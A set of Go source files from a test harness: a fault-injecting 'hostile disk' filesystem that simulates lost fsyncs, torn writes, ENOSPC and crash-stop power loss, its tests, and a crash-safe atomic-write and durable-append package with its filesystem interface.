	}
	// The dead filesystem refuses everything.
	if _, err := fs.OpenAppend(path); !errors.Is(err, ErrCrashed) {
		t.Fatalf("open on crashed fs = %v, want ErrCrashed", err)
	}
}

func TestSyncLieLosesWriteAtCrash(t *testing.T) {
	fs := New(Rule{Op: OpSync, N: 2, SyncLie: true})
	dir := t.TempDir()
	path := filepath.Join(dir, "j.log")
	af, err := appendRec(t, fs, path, "one\n")
	if err != nil {
		t.Fatalf("append: %v", err)
	}
	if err := af.Append([]byte("two\n")); err != nil {
		t.Fatalf("lying sync must ack: %v", err)
	}
	// Before the crash the bytes are visible — that is the trap.
	b, _ := os.ReadFile(path)
	if string(b) != "one\ntwo\n" {
		t.Fatalf("pre-crash file = %q", b)
	}
	fs.CrashNow()
	b, _ = os.ReadFile(path)
	if string(b) != "one\n" {
		t.Fatalf("post-crash file = %q, want the lie exposed (only %q)", b, "one\n")
	}
}

func TestCrashMidWriteLeavesTornTail(t *testing.T) {
	fs := New(Rule{Op: OpWrite, N: 2, Crash: true, Partial: -1})
	dir := t.TempDir()
	path := filepath.Join(dir, "j.log")
	af, err := appendRec(t, fs, path, "one\n")
	if err != nil {
		t.Fatalf("append: %v", err)
	}
	if err := af.Append([]byte("second-record\n")); !errors.Is(err, ErrCrashed) {
		t.Fatalf("append = %v, want ErrCrashed", err)
	}
	b, _ := os.ReadFile(path)
	want := "one\n" + "second-record\n"[:len("second-record\n")/2]
	if string(b) != want {
		t.Fatalf("post-crash file = %q, want torn tail %q", b, want)
	}
}

func TestRenameCrashBeforeAndAfter(t *testing.T) {
	for _, after := range []bool{false, true} {
		dir := t.TempDir()
		path := filepath.Join(dir, "out.json")
		fs := New(Rule{Op: OpRename, Crash: true, After: after})
		_ = fsio.WriteAtomicFS(fs, path, func(w io.Writer) error {
			_, err := w.Write([]byte("{}\n"))
			return err
		})
		_, statErr := os.Stat(path)
		if after && statErr != nil {
			t.Fatalf("After=true: destination should exist: %v", statErr)
		}
		if !after && statErr == nil {
			t.Fatal("After=false: destination should not exist")
		}
	}
}

func TestShortWrite(t *testing.T) {
	fs := New(Rule{Op: OpWrite, ShortWrite: true})
	dir := t.TempDir()
	path := filepath.Join(dir, "j.log")
	_, err := appendRec(t, fs, path, "abcdefgh\n")
	if !errors.Is(err, syscall.ENOSPC) {
		t.Fatalf("short write err = %v, want ENOSPC", err)
	}
	// fsio repaired: the half-record is gone.
	b, _ := os.ReadFile(path)
	if len(b) != 0 {
		t.Fatalf("file = %q, want empty after repair", b)
	}
	if fsio.ReadStats().AppendRepairs == 0 {
		t.Fatal("expected an append repair to be counted")
	}
}

func TestPathSubstringScoping(t *testing.T) {
	fs := New(Rule{Op: OpWrite, Path: "b.log", Err: syscall.EIO})
	dir := t.TempDir()
	afA, err := appendRec(t, fs, filepath.Join(dir, "a.log"), "x\n")
	if err != nil {
		t.Fatalf("a.log should be untouched: %v", err)
	}
	afA.Close()
	_, err = appendRec(t, fs, filepath.Join(dir, "b.log"), "x\n")
	if !errors.Is(err, syscall.EIO) {
		t.Fatalf("b.log err = %v, want EIO", err)
	}
}
