// Package faultfs is a hostile disk: an fsio.FS that injects storage
// faults on a deterministic schedule and models crash-stop power loss.
//
// The durability model is write-through with a truncate-to-watermark
// crash. Writes land on the real filesystem immediately (so readers
// and recovery code see ordinary files), and each tracked file carries
// a durable watermark that advances only on a successful, honest
// fsync. When the schedule crashes the filesystem — or a test calls
// CrashNow — every tracked file is truncated back to its watermark:
// whatever was written but never fsynced is gone, exactly as after
// power loss on a disk with a volatile cache. A crash triggered
// mid-write may leave a configurable torn tail past the watermark on
// the file being written. After the crash the filesystem is inert:
// every operation returns ErrCrashed, so in-flight goroutines fail
// fast instead of mutating the post-crash state. Recovery then reopens
// the directory with a fresh filesystem (usually the passthrough
// fsio.OS) and must cope with what the crash left behind.
//
// Two deliberate simplifications, documented because torture scenarios
// depend on them: a rename, once applied, survives the crash even if
// the directory was never synced (crash-before-rename is modeled by
// Crash without After instead); and file creation likewise persists.
// These make the model strictly kinder than real ext4 — any bug found
// under faultfs exists on real hardware too.
//
// Schedules are just ordered Rules matched by (operation, path
// substring, Nth occurrence). The same rules against the same workload
// replay identically, which is what lets cmd/crashtorture pin a bug as
// a regression schedule.
package faultfs

import (
	"errors"
	"fmt"
	"io/fs"
	"os"
	"strings"
	"sync"
	"syscall"

	"repro/internal/fsio"
)

// ErrCrashed is returned by every operation after the filesystem has
// crash-stopped.
var ErrCrashed = errors.New("faultfs: filesystem crashed")

// Op identifies the operation class a Rule matches.
type Op string

const (
	OpCreate     Op = "create"     // FS.CreateTemp
	OpOpenAppend Op = "openappend" // FS.OpenAppend
	OpWrite      Op = "write"      // File.Write
	OpSync       Op = "sync"       // File.Sync
	OpTruncate   Op = "truncate"   // File.Truncate and FS.Truncate
	OpRename     Op = "rename"     // FS.Rename
	OpRemove     Op = "remove"     // FS.Remove
	OpSyncDir    Op = "syncdir"    // FS.SyncDir
)

// Rule schedules one fault. Zero-value fields widen the match: empty
// Path matches every path, N<=1 fires on the first match. Exactly one
// effect should be set (Err, ShortWrite, SyncLie, or Crash); rules are
// checked in order and a rule fires at most once.
type Rule struct {
	Op   Op
	Path string // substring of the operation's (destination) path
	N    int    // fire on the Nth matching operation, 1-based

	// Err makes the operation fail with this error (e.g. ENOSPC, EIO)
	// without any side effect beyond ShortWrite's partial data.
	Err error
	// ShortWrite (OpWrite) writes only half the buffer through before
	// failing with Err (or io.ErrShortWrite-equivalent ENOSPC).
	ShortWrite bool
	// SyncLie (OpSync) reports success without advancing the durable
	// watermark — the classic lost-write: the ack is given, the data is
	// not on stable storage. Pair with a later CrashNow to expose it.
	SyncLie bool
	// Crash crash-stops the filesystem at this operation. For OpRename
	// and OpRemove, After selects whether the operation applies first.
	// For OpWrite, Partial bytes of the in-flight buffer survive past
	// the watermark as a torn tail (-1 = half the buffer).
	Crash   bool
	After   bool
	Partial int

	matched int
	fired   bool
}

// Record is one entry of the operation trace.
type Record struct {
	Op   Op
	Path string
}

type tracked struct {
	path   string
	synced int64 // durable watermark
	size   int64 // current write offset
	torn   int64 // extra bytes past synced that survive the crash
}

// FS implements fsio.FS with fault injection. Safe for concurrent use.
type FS struct {
	mu       sync.Mutex
	rules    []*Rule
	trace    []Record
	files    map[string]*tracked // keyed by current path
	crashed  bool
	injected int
}

// New builds a hostile filesystem with the given schedule. No rules
// means a recording passthrough — cmd/crashtorture uses that probe
// mode to enumerate the operation trace a clean cycle performs.
func New(rules ...Rule) *FS {
	f := &FS{files: make(map[string]*tracked)}
	for i := range rules {
		r := rules[i]
		f.rules = append(f.rules, &r)
	}
	return f
}

// Injected reports how many scheduled faults have fired.
func (f *FS) Injected() int {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.injected
}

// Crashed reports whether the filesystem has crash-stopped.
func (f *FS) Crashed() bool {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.crashed
}

// Trace returns a copy of the operation trace so far.
func (f *FS) Trace() []Record {
	f.mu.Lock()
	defer f.mu.Unlock()
	out := make([]Record, len(f.trace))
	copy(out, f.trace)
	return out
}

// CrashNow crash-stops the filesystem immediately: every tracked file
// is truncated to its durable watermark and all further operations
// return ErrCrashed. Idempotent.
func (f *FS) CrashNow() {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.crashLocked()
}

func (f *FS) crashLocked() {
	if f.crashed {
		return
	}
	f.crashed = true
	for _, t := range f.files {
		keep := t.synced + t.torn
		if keep < t.size {
			// Best effort on the real file; the handle may already be
			// closed, so truncate by path.
			_ = os.Truncate(t.path, keep)
		}
	}
}

// step records the operation and returns the rule that fires on it,
// if any. Caller holds f.mu.
func (f *FS) stepLocked(op Op, path string) (*Rule, error) {
	if f.crashed {
		return nil, ErrCrashed
	}
	f.trace = append(f.trace, Record{Op: op, Path: path})
	for _, r := range f.rules {
		if r.fired || r.Op != op {
			continue
		}
		if r.Path != "" && !strings.Contains(path, r.Path) {
			continue
		}
		r.matched++
		n := r.N
		if n < 1 {
			n = 1
		}
		if r.matched < n {
			continue
		}
		r.fired = true
		f.injected++
		fsio.NoteFault()
		return r, nil
	}
	return nil, nil
}

func (r *Rule) err() error {
	if r.Err != nil {
		return r.Err
	}
	return syscall.EIO
}

// --- fsio.FS ---

func (f *FS) CreateTemp(dir, pattern string) (fsio.File, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	r, err := f.stepLocked(OpCreate, dir+"/"+pattern)
	if err != nil {
		return nil, err
	}
	if r != nil {
		if r.Crash {
			f.crashLocked()
			return nil, ErrCrashed
		}
		return nil, fmt.Errorf("faultfs: create %s: %w", pattern, r.err())
	}
	osf, err := os.CreateTemp(dir, pattern)
	if err != nil {
		return nil, err
	}
	t := &tracked{path: osf.Name()}
	f.files[t.path] = t
	return &file{fs: f, f: osf, t: t}, nil
}

func (f *FS) OpenAppend(path string) (fsio.File, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	r, err := f.stepLocked(OpOpenAppend, path)
	if err != nil {
		return nil, err
	}
	if r != nil {
		if r.Crash {
			f.crashLocked()
			return nil, ErrCrashed
		}
		return nil, fmt.Errorf("faultfs: open %s: %w", path, r.err())
	}
	osf, err := os.OpenFile(path, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
	if err != nil {
		return nil, err
	}
	size := int64(0)
	if fi, serr := osf.Stat(); serr == nil {
		size = fi.Size()
	}
	// Pre-existing bytes are assumed durable: the crash being modeled
	// is within this process's lifetime, not a previous one.
	t := f.files[path]
	if t == nil {
		t = &tracked{path: path, synced: size, size: size}
		f.files[path] = t
	} else {
		t.size = size
		if t.synced > size {
			t.synced = size
		}
	}
	return &file{fs: f, f: osf, t: t}, nil
}

func (f *FS) Rename(oldpath, newpath string) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	r, err := f.stepLocked(OpRename, newpath)
	if err != nil {
		return err
	}
	if r != nil && !r.Crash {
		return fmt.Errorf("faultfs: rename %s: %w", newpath, r.err())
	}
	if r != nil && r.Crash && !r.After {
		f.crashLocked()
		return ErrCrashed
	}
	if err := os.Rename(oldpath, newpath); err != nil {
		return err
	}
	if t, ok := f.files[oldpath]; ok {
		delete(f.files, oldpath)
		t.path = newpath
		f.files[newpath] = t
	}
	if r != nil { // Crash && After
		f.crashLocked()
		return ErrCrashed
	}
	return nil
}

func (f *FS) Remove(path string) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	r, err := f.stepLocked(OpRemove, path)
	if err != nil {
		return err
	}
	if r != nil && !r.Crash {
		return fmt.Errorf("faultfs: remove %s: %w", path, r.err())
	}
	if r != nil && r.Crash && !r.After {
		f.crashLocked()
		return ErrCrashed
	}
	rmErr := os.Remove(path)
	if rmErr == nil {
		delete(f.files, path)
	}
	if r != nil {
		f.crashLocked()
		return ErrCrashed
	}
	return rmErr
}

func (f *FS) RemoveAll(path string) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.crashed {
		return ErrCrashed
	}
	if err := os.RemoveAll(path); err != nil {
		return err
	}
	for p := range f.files {
		if strings.HasPrefix(p, path) {
			delete(f.files, p)
		}
	}
	return nil
}

func (f *FS) Truncate(path string, size int64) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	r, err := f.stepLocked(OpTruncate, path)
	if err != nil {
		return err
	}
	if r != nil {
		if r.Crash {
			f.crashLocked()
			return ErrCrashed
		}
		return fmt.Errorf("faultfs: truncate %s: %w", path, r.err())
	}
	if err := os.Truncate(path, size); err != nil {
		return err
	}
	if t, ok := f.files[path]; ok {
		t.size = size
		if t.synced > size {
			t.synced = size
		}
	}
	return nil
}

func (f *FS) MkdirAll(path string, perm fs.FileMode) error {
	f.mu.Lock()
	crashed := f.crashed
	f.mu.Unlock()
	if crashed {
		return ErrCrashed
	}
	return os.MkdirAll(path, perm)
}

func (f *FS) Stat(path string) (fs.FileInfo, error) {
	if f.Crashed() {
		return nil, ErrCrashed
	}
	return os.Stat(path)
}

func (f *FS) ReadFile(path string) ([]byte, error) {
	if f.Crashed() {
		return nil, ErrCrashed
	}
	return os.ReadFile(path)
}

func (f *FS) ReadDir(path string) ([]fs.DirEntry, error) {
	if f.Crashed() {
		return nil, ErrCrashed
	}
	return os.ReadDir(path)
}

func (f *FS) SyncDir(dir string) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	r, err := f.stepLocked(OpSyncDir, dir)
	if err != nil {
		return err
	}
	if r != nil {
		if r.Crash {
			f.crashLocked()
			return ErrCrashed
		}
		return fmt.Errorf("faultfs: syncdir %s: %w", dir, r.err())
	}
	// Renames are modeled as durable once applied; nothing to do.
	return nil
}

// --- fsio.File ---

type file struct {
	fs *FS
	f  *os.File
	t  *tracked
}

func (w *file) Name() string { return w.f.Name() }

func (w *file) Write(p []byte) (int, error) {
	w.fs.mu.Lock()
	defer w.fs.mu.Unlock()
	r, err := w.fs.stepLocked(OpWrite, w.t.path)
	if err != nil {
		return 0, err
	}
	if r != nil {
		if r.Crash {
			keep := int64(r.Partial)
			if r.Partial < 0 {
				keep = int64(len(p) / 2)
			}
			if keep > int64(len(p)) {
				keep = int64(len(p))
			}
			if keep > 0 {
				n, _ := w.f.Write(p[:keep])
				w.t.size += int64(n)
				w.t.torn = w.t.size - w.t.synced
			}
			w.fs.crashLocked()
			return 0, ErrCrashed
		}
		if r.ShortWrite {
			half := len(p) / 2
			n, _ := w.f.Write(p[:half])
			w.t.size += int64(n)
			e := r.Err
			if e == nil {
				e = syscall.ENOSPC
			}
			return n, fmt.Errorf("faultfs: short write %s: %w", w.t.path, e)
		}
		return 0, fmt.Errorf("faultfs: write %s: %w", w.t.path, r.err())
	}
	n, err := w.f.Write(p)
	w.t.size += int64(n)
	return n, err
}

func (w *file) Sync() error {
	w.fs.mu.Lock()
	defer w.fs.mu.Unlock()
	r, err := w.fs.stepLocked(OpSync, w.t.path)
	if err != nil {
		return err
	}
	if r != nil {
		if r.Crash {
			w.fs.crashLocked()
			return ErrCrashed
		}
		if r.SyncLie {
			// Ack without durability: the lost-write model. The real
			// file keeps the bytes until a crash truncates them away.
			return nil
		}
		return fmt.Errorf("faultfs: sync %s: %w", w.t.path, r.err())
	}
	if err := w.f.Sync(); err != nil {
		return err
	}
	w.t.synced = w.t.size
	return nil
}

func (w *file) Truncate(size int64) error {
	w.fs.mu.Lock()
	defer w.fs.mu.Unlock()
	r, err := w.fs.stepLocked(OpTruncate, w.t.path)
	if err != nil {
		return err
	}
	if r != nil {
		if r.Crash {
			w.fs.crashLocked()
			return ErrCrashed
		}
		return fmt.Errorf("faultfs: truncate %s: %w", w.t.path, r.err())
	}
	if err := w.f.Truncate(size); err != nil {
		return err
	}
	w.t.size = size
	if w.t.synced > size {
		w.t.synced = size
	}
	return nil
}

func (w *file) Close() error {
	w.fs.mu.Lock()
	crashed := w.fs.crashed
	w.fs.mu.Unlock()
	err := w.f.Close()
	if crashed {
		return ErrCrashed
	}
	return err
}
