// Package fsio is the harness's crash-safe file I/O: atomic whole-file
// writes (temp file in the same directory, fsync, rename) and durable
// appends for the campaign journal. Every file the harness produces —
// checkpoint results, telemetry exports, CSV series, recorded traces —
// goes through this package so that a crash or kill at any instant
// leaves either the previous complete file or the new complete file,
// never a torn one.
//
// The contract, in POSIX terms: data reaches the temp file, the temp
// file is fsynced, then rename() replaces the destination atomically,
// then the directory is fsynced so the rename itself survives a crash.
// Readers that only ever open the final path can never observe a
// partial write.
//
// Every operation runs against an FS (see vfs.go): the default OS
// passthrough costs nothing, and fsio/faultfs substitutes a hostile
// disk so cmd/crashtorture can prove the recovery paths instead of
// presuming them. The package-level helpers (WriteAtomic, Create,
// OpenAppend, SyncDir) are OS-bound conveniences; the *FS variants take
// the seam explicitly.
package fsio

import (
	"fmt"
	"io"
	"path/filepath"
	"strings"
)

// WriteAtomic writes one file atomically via the passthrough OS
// filesystem. See WriteAtomicFS.
func WriteAtomic(path string, write func(w io.Writer) error) error {
	return WriteAtomicFS(OS, path, write)
}

// WriteAtomicFS writes one file atomically: write runs against a temp
// file created in path's directory; on success the temp file is synced
// and renamed over path. On any error the temp file is removed and
// path is untouched.
func WriteAtomicFS(fsys FS, path string, write func(w io.Writer) error) error {
	af, err := CreateFS(fsys, path)
	if err != nil {
		return err
	}
	if err := write(af); err != nil {
		af.Abort()
		return err
	}
	return af.Commit()
}

// CleanStrayTemps removes atomic-write temp files (".<name>.tmp-*")
// left behind in dir by a crash between CreateFS and Commit — the
// temp never threatens the destination, but it leaks disk across
// crashes. Recovery paths call this once per directory they own.
// Returns the number removed; a missing directory removes nothing.
func CleanStrayTemps(fsys FS, dir string) int {
	fsys = DefaultFS(fsys)
	ents, err := fsys.ReadDir(dir)
	if err != nil {
		return 0
	}
	removed := 0
	for _, e := range ents {
		name := e.Name()
		if e.IsDir() || !strings.HasPrefix(name, ".") || !strings.Contains(name, ".tmp-") {
			continue
		}
		if fsys.Remove(filepath.Join(dir, name)) == nil {
			removed++
		}
	}
	return removed
}

// AtomicFile is an in-progress atomic write for callers that need the
// file handle itself (streaming encoders). Write into it, then either
// Commit (sync + rename into place) or Abort (remove the temp file).
// An AtomicFile left neither committed nor aborted is just a stray
// .tmp file — the destination is never touched.
type AtomicFile struct {
	fs   FS
	f    File
	path string
	done bool
}

// Create starts an atomic write of path on the passthrough OS
// filesystem. See CreateFS.
func Create(path string) (*AtomicFile, error) { return CreateFS(OS, path) }

// CreateFS starts an atomic write of path on fsys. The temp file lives
// in the same directory so the final rename cannot cross filesystems.
func CreateFS(fsys FS, path string) (*AtomicFile, error) {
	abs, err := filepath.Abs(path)
	if err != nil {
		return nil, fmt.Errorf("fsio: %w", err)
	}
	f, err := fsys.CreateTemp(filepath.Dir(abs), "."+filepath.Base(abs)+".tmp-*")
	if err != nil {
		return nil, fmt.Errorf("fsio: %w", err)
	}
	return &AtomicFile{fs: fsys, f: f, path: abs}, nil
}

// Write implements io.Writer.
func (a *AtomicFile) Write(p []byte) (int, error) { return a.f.Write(p) }

// Name returns the temp file's path (diagnostics only; it disappears
// at Commit/Abort).
func (a *AtomicFile) Name() string { return a.f.Name() }

// Commit syncs the temp file and renames it over the destination,
// then syncs the directory so the rename is durable. Idempotent after
// success. On a sync, close, or rename failure the temp file is
// removed and the destination is untouched; a directory-sync failure
// after the rename is reported too (the destination then exists but
// its durability is not guaranteed — callers retry, the write is
// idempotent).
func (a *AtomicFile) Commit() error {
	if a.done {
		return nil
	}
	a.done = true
	tmp := a.f.Name()
	if err := a.f.Sync(); err != nil {
		a.f.Close()
		a.fs.Remove(tmp)
		return fmt.Errorf("fsio: sync %s (for %s): %w", tmp, a.path, err)
	}
	if err := a.f.Close(); err != nil {
		a.fs.Remove(tmp)
		return fmt.Errorf("fsio: close %s (for %s): %w", tmp, a.path, err)
	}
	if err := a.fs.Rename(tmp, a.path); err != nil {
		a.fs.Remove(tmp)
		return fmt.Errorf("fsio: rename into %s: %w", a.path, err)
	}
	if err := a.fs.SyncDir(filepath.Dir(a.path)); err != nil {
		return fmt.Errorf("fsio: %s committed but directory sync failed: %w", a.path, err)
	}
	return nil
}

// Abort discards the write, removing the temp file. Idempotent and
// safe after Commit (then a no-op).
func (a *AtomicFile) Abort() {
	if a.done {
		return
	}
	a.done = true
	tmp := a.f.Name()
	a.f.Close()
	a.fs.Remove(tmp)
}

// SyncDir fsyncs a directory on the passthrough OS filesystem so a
// completed rename or create inside it survives a crash. Filesystems
// that refuse to sync directories are tolerated — counted and logged
// once per directory (see ReadStats) instead of silently discarded.
func SyncDir(dir string) error { return OS.SyncDir(dir) }

// AppendFile is an append-only file whose writes are individually
// durable: each Append writes one buffer and fsyncs before returning.
// This is the campaign journal's commit discipline — an experiment is
// "done" exactly when its journal line has reached the disk.
//
// A failed append repairs itself: the partial record (short write, or
// a full write whose fsync failed) is truncated away so the file ends
// at the last known-durable record boundary and the next append can
// never concatenate onto a torn fragment. If even the repair truncate
// fails the file is poisoned — every later Append refuses with the
// original error — because appending past an unremovable fragment
// would corrupt the journal for every future replay.
type AppendFile struct {
	f    File
	path string
	// good is the byte offset of the last record boundary known to be
	// durable; size is the current write offset (== good between calls
	// unless a repair failed).
	good   int64
	size   int64
	broken error
}

// OpenAppend opens (creating if absent) path for durable appends on
// the passthrough OS filesystem. See OpenAppendFS.
func OpenAppend(path string) (*AppendFile, error) { return OpenAppendFS(OS, path) }

// OpenAppendFS opens (creating if absent) path for durable appends on
// fsys.
func OpenAppendFS(fsys FS, path string) (*AppendFile, error) {
	f, err := fsys.OpenAppend(path)
	if err != nil {
		return nil, fmt.Errorf("fsio: %w", err)
	}
	size := int64(0)
	if fi, serr := fsys.Stat(path); serr == nil {
		size = fi.Size()
	}
	return &AppendFile{f: f, path: path, good: size, size: size}, nil
}

// Append writes p and fsyncs. On failure the file is truncated back to
// the previous record boundary (see the type comment) before the error
// is returned, so a failed append is invisible to the next one.
func (a *AppendFile) Append(p []byte) error {
	if a.broken != nil {
		return fmt.Errorf("fsio: append %s: file poisoned by earlier unrepaired failure: %w", a.path, a.broken)
	}
	n, err := a.f.Write(p)
	a.size += int64(n)
	if err == nil && n < len(p) {
		err = io.ErrShortWrite
	}
	if err != nil {
		return a.repair(fmt.Errorf("fsio: append %s: wrote %d of %d bytes: %w", a.path, n, len(p), err))
	}
	if err := a.f.Sync(); err != nil {
		return a.repair(fmt.Errorf("fsio: sync %s: %w", a.path, err))
	}
	a.good = a.size
	return nil
}

// repair truncates back to the last durable record boundary after a
// failed append. If the truncate fails too, the file is poisoned.
func (a *AppendFile) repair(cause error) error {
	if terr := a.f.Truncate(a.good); terr != nil {
		a.broken = fmt.Errorf("%w (and truncate-repair to %d failed: %v)", cause, a.good, terr)
		return a.broken
	}
	a.size = a.good
	noteAppendRepair()
	return cause
}

// Sync fsyncs the file — the escape hatch for callers that batch
// several writes between durability points.
func (a *AppendFile) Sync() error {
	if a.broken != nil {
		return a.broken
	}
	if err := a.f.Sync(); err != nil {
		return fmt.Errorf("fsio: sync %s: %w", a.path, err)
	}
	a.good = a.size
	return nil
}

// Close fsyncs and closes the underlying file, so the final append of
// a clean shutdown is durable even if a future caller batched it.
// Returns the first error; the close always runs.
func (a *AppendFile) Close() error {
	var serr error
	if a.broken == nil {
		if err := a.f.Sync(); err != nil {
			serr = fmt.Errorf("fsio: sync %s at close: %w", a.path, err)
		} else {
			a.good = a.size
		}
	}
	if cerr := a.f.Close(); cerr != nil && serr == nil {
		serr = cerr
	}
	return serr
}
