// Package fsio is the harness's crash-safe file I/O: atomic whole-file
// writes (temp file in the same directory, fsync, rename) and durable
// appends for the campaign journal. Every file the harness produces —
// checkpoint results, telemetry exports, CSV series, recorded traces —
// goes through this package so that a crash or kill at any instant
// leaves either the previous complete file or the new complete file,
// never a torn one.
//
// The contract, in POSIX terms: data reaches the temp file, the temp
// file is fsynced, then rename() replaces the destination atomically,
// then the directory is fsynced so the rename itself survives a crash.
// Readers that only ever open the final path can never observe a
// partial write.
package fsio

import (
	"fmt"
	"io"
	"os"
	"path/filepath"
)

// WriteAtomic writes one file atomically: write runs against a temp
// file created in path's directory; on success the temp file is synced
// and renamed over path. On any error the temp file is removed and
// path is untouched.
func WriteAtomic(path string, write func(w io.Writer) error) error {
	af, err := Create(path)
	if err != nil {
		return err
	}
	if err := write(af); err != nil {
		af.Abort()
		return err
	}
	return af.Commit()
}

// AtomicFile is an in-progress atomic write for callers that need the
// file handle itself (streaming encoders). Write into it, then either
// Commit (sync + rename into place) or Abort (remove the temp file).
// An AtomicFile left neither committed nor aborted is just a stray
// .tmp file — the destination is never touched.
type AtomicFile struct {
	f    *os.File
	path string
	done bool
}

// Create starts an atomic write of path. The temp file lives in the
// same directory so the final rename cannot cross filesystems.
func Create(path string) (*AtomicFile, error) {
	abs, err := filepath.Abs(path)
	if err != nil {
		return nil, fmt.Errorf("fsio: %w", err)
	}
	f, err := os.CreateTemp(filepath.Dir(abs), "."+filepath.Base(abs)+".tmp-*")
	if err != nil {
		return nil, fmt.Errorf("fsio: %w", err)
	}
	return &AtomicFile{f: f, path: abs}, nil
}

// Write implements io.Writer.
func (a *AtomicFile) Write(p []byte) (int, error) { return a.f.Write(p) }

// Name returns the temp file's path (diagnostics only; it disappears
// at Commit/Abort).
func (a *AtomicFile) Name() string { return a.f.Name() }

// Commit syncs the temp file and renames it over the destination,
// then syncs the directory so the rename is durable. Idempotent after
// success; returns an error (and aborts) if any step fails.
func (a *AtomicFile) Commit() error {
	if a.done {
		return nil
	}
	a.done = true
	tmp := a.f.Name()
	if err := a.f.Sync(); err != nil {
		a.f.Close()
		os.Remove(tmp)
		return fmt.Errorf("fsio: sync %s: %w", tmp, err)
	}
	if err := a.f.Close(); err != nil {
		os.Remove(tmp)
		return fmt.Errorf("fsio: close %s: %w", tmp, err)
	}
	if err := os.Rename(tmp, a.path); err != nil {
		os.Remove(tmp)
		return fmt.Errorf("fsio: %w", err)
	}
	return SyncDir(filepath.Dir(a.path))
}

// Abort discards the write, removing the temp file. Idempotent and
// safe after Commit (then a no-op).
func (a *AtomicFile) Abort() {
	if a.done {
		return
	}
	a.done = true
	tmp := a.f.Name()
	a.f.Close()
	os.Remove(tmp)
}

// SyncDir fsyncs a directory so a completed rename or create inside it
// survives a crash. Filesystems that refuse to sync directories are
// tolerated (the rename is still atomic there).
func SyncDir(dir string) error {
	d, err := os.Open(dir)
	if err != nil {
		return fmt.Errorf("fsio: %w", err)
	}
	defer d.Close()
	// Ignore sync errors from filesystems without directory fsync
	// support; atomicity of the rename does not depend on it.
	_ = d.Sync()
	return nil
}

// AppendFile is an append-only file whose writes are individually
// durable: each Append writes one buffer and fsyncs before returning.
// This is the campaign journal's commit discipline — an experiment is
// "done" exactly when its journal line has reached the disk.
type AppendFile struct {
	f *os.File
}

// OpenAppend opens (creating if absent) path for durable appends.
func OpenAppend(path string) (*AppendFile, error) {
	f, err := os.OpenFile(path, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
	if err != nil {
		return nil, fmt.Errorf("fsio: %w", err)
	}
	return &AppendFile{f: f}, nil
}

// Append writes p and fsyncs.
func (a *AppendFile) Append(p []byte) error {
	if _, err := a.f.Write(p); err != nil {
		return fmt.Errorf("fsio: append %s: %w", a.f.Name(), err)
	}
	if err := a.f.Sync(); err != nil {
		return fmt.Errorf("fsio: sync %s: %w", a.f.Name(), err)
	}
	return nil
}

// Close closes the underlying file.
func (a *AppendFile) Close() error { return a.f.Close() }
