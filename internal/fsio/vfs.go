package fsio

import (
	"fmt"
	"io/fs"
	"os"
)

// File is the writable-handle half of the storage seam: everything the
// durability protocols do to an open file. *os.File satisfies it
// directly, so the passthrough filesystem hands out real handles with
// no wrapper allocation.
type File interface {
	Write(p []byte) (int, error)
	// Sync flushes the file to stable storage (fsync).
	Sync() error
	// Truncate cuts the file to size — the append-repair path uses it
	// to amputate a partial record after a failed write.
	Truncate(size int64) error
	Close() error
	// Name returns the path the file was opened under (diagnostics).
	Name() string
}

// FS is the storage seam every durability-bearing write in the harness
// goes through: atomic whole-file writes, durable appends, renames,
// truncates, and directory syncs. The default implementation (OS) is a
// zero-cost passthrough to the os package; fault-injecting
// implementations (fsio/faultfs) substitute hostile disks — ENOSPC at
// the Nth write, fsyncs that lie, crash-stop at any commit point — so
// every recovery path can be exercised deterministically.
//
// Read-side methods (Stat, ReadFile, ReadDir) are included so recovery
// code observes the same filesystem its writes went to.
type FS interface {
	// CreateTemp creates a new exclusive temp file in dir
	// (os.CreateTemp pattern semantics).
	CreateTemp(dir, pattern string) (File, error)
	// OpenAppend opens path O_CREATE|O_WRONLY|O_APPEND.
	OpenAppend(path string) (File, error)
	Rename(oldpath, newpath string) error
	Remove(path string) error
	RemoveAll(path string) error
	Truncate(path string, size int64) error
	MkdirAll(path string, perm fs.FileMode) error
	Stat(path string) (fs.FileInfo, error)
	ReadFile(path string) ([]byte, error)
	ReadDir(path string) ([]fs.DirEntry, error)
	// SyncDir fsyncs a directory so a completed rename or create inside
	// it survives a crash. The passthrough tolerates filesystems that
	// refuse directory fsync (counted + logged once per directory, see
	// ReadStats); injecting filesystems may return real errors.
	SyncDir(dir string) error
}

// OS is the passthrough filesystem: every method delegates straight to
// the os package. It is the default everywhere an FS is optional, and
// it adds nothing to the hot append path — OpenAppend returns the
// *os.File itself.
var OS FS = osFS{}

// DefaultFS returns f, or OS when f is nil — the idiom for optional FS
// fields on Config/Runner structs.
func DefaultFS(f FS) FS {
	if f == nil {
		return OS
	}
	return f
}

type osFS struct{}

func (osFS) CreateTemp(dir, pattern string) (File, error) {
	f, err := os.CreateTemp(dir, pattern)
	if err != nil {
		return nil, err
	}
	return f, nil
}

func (osFS) OpenAppend(path string) (File, error) {
	f, err := os.OpenFile(path, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
	if err != nil {
		return nil, err
	}
	return f, nil
}

func (osFS) Rename(oldpath, newpath string) error     { return os.Rename(oldpath, newpath) }
func (osFS) Remove(path string) error                 { return os.Remove(path) }
func (osFS) RemoveAll(path string) error              { return os.RemoveAll(path) }
func (osFS) Truncate(path string, size int64) error   { return os.Truncate(path, size) }
func (osFS) MkdirAll(path string, p fs.FileMode) error { return os.MkdirAll(path, p) }
func (osFS) Stat(path string) (fs.FileInfo, error)    { return os.Stat(path) }
func (osFS) ReadFile(path string) ([]byte, error)     { return os.ReadFile(path) }
func (osFS) ReadDir(path string) ([]fs.DirEntry, error) { return os.ReadDir(path) }

func (osFS) SyncDir(dir string) error {
	d, err := os.Open(dir)
	if err != nil {
		return fmt.Errorf("fsio: %w", err)
	}
	defer d.Close()
	// Filesystems without directory fsync support are tolerated — the
	// rename is still atomic there — but no longer silently: the error
	// is counted (fsio.dirsync_errors on /metrics) and logged once per
